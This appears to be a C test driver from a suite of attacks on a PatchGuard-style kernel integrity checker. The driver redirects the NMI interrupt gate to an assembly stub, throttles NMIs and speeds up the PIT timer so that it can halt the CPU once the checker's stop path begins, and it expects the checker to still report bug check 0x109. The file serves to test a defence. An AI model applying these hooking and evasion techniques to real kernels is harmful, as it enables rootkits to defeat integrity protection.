/* attack_a140_nmi_stop (A140): an NMI that swallows the stop path.
 * The stop path masks interrupts, but no instruction masks an NMI: the
 * NMI's IDT gate (vector 2) is pointed at a stub in this driver that
 * chains to the kernel's NMI entry (one NMI per tick; the others return
 * at once, so PatchGuard's NMI sees the rate it expects), except once
 * PatchGuard's "stop path begun" flag is set (its state found as attack_a27 does): then it halts
 * with NMIs blocked for good (no IRET), before the stop screen and the
 * bug-check event. PIT channel 0 (the NMI watchdog's edge) is set to a
 * short reload (10 counts, an NMI every 8.4 us) so that one lands inside
 * the stop path, which takes some tens of microseconds; whatever
 * PatchGuard finds first (the gate, the reload) is reported on that path.
 * `reload N` sets another count. Expected: 0x109 with its stop screen. */
#include "attack_pg.h"

#define VEC_NMI 2
#define PIT_CH0 0x40
#define PIT_CMD 0x43
#define PIT_CH0_MODE2 0x34 /* channel 0, lobyte/hibyte, rate generator */

uint64_t attack_a140_original;
volatile bool *attack_a140_stopping;

void attack_a140_stub(void);
volatile uint64_t *attack_a140_ticks;
uint64_t attack_a140_last = ~0ull;
__asm__(".text\n.global attack_a140_stub\nattack_a140_stub:\n"
	"\tpushq %rax\n"
	"\tmovq attack_a140_stopping(%rip), %rax\n"
	"\tcmpb $0, (%rax)\n"
	"\tjne 2f\n"
	/* One NMI per tick reaches PatchGuard, the rest return at once: its
	 * NMI sees the rate it expects (more would look like a stall). */
	"\tmovq attack_a140_ticks(%rip), %rax\n"
	"\tmovq (%rax), %rax\n"
	"\tcmpq attack_a140_last(%rip), %rax\n"
	"\tje 1f\n"
	"\tmovq %rax, attack_a140_last(%rip)\n"
	"\tpopq %rax\n"
	"\tjmp *attack_a140_original(%rip)\n"
	"1:\tpopq %rax\n"
	"\tiretq\n"
	"2:\tcli\n\thlt\n\tjmp 2b\n");

static uint32_t parse_reload(const char *a)
{
	const char *p = a;
	while (*p && strncmp(p, "reload ", 7))
		p++;
	if (!*p)
		return 10;
	uint32_t n = 0;
	for (p += 7; *p >= '0' && *p <= '9'; p++)
		n = n * 10 + (uint32_t)(*p - '0');
	return n >= 2 && n <= 65535 ? n : 10;
}

status_t driver_entry(struct driver_object *drv)
{
	uint32_t reload = parse_reload(drv->args);
	uint64_t pf = a_cli(); /* no pass between the patch and its report */
	struct pg_state *pg = a_find_pg();
	if (!pg) {
		a_restore(pf);
		printk("attack_a140: PatchGuard's state not found\n");
		return KPP_STATUS_UNSUCCESSFUL;
	}
	attack_a140_stopping = &pg->stopping;
	attack_a140_ticks = a_find_tick_count();
	{
		struct gate *g = a_idt() + VEC_NMI;
		struct gate ng = *g;
		attack_a140_original = a_gate_target(g);
		a_gate_point(&ng, (uint64_t)&attack_a140_stub);
		a_write_protected(g, &ng, sizeof ng);
	}
	a_outb(PIT_CMD, PIT_CH0_MODE2);
	a_outb(PIT_CH0, reload & 0xFF);
	a_outb(PIT_CH0, (reload >> 8) & 0xFF);
	printk("attack_a140: the NMI gate halts once PatchGuard's stop path has begun\n");
	printk("~ attack_a140: PIT channel 0 reload %u\n", reload);
	a_patched("attack_a140");
	a_restore(pf);
	return KPP_STATUS_SUCCESS;
}
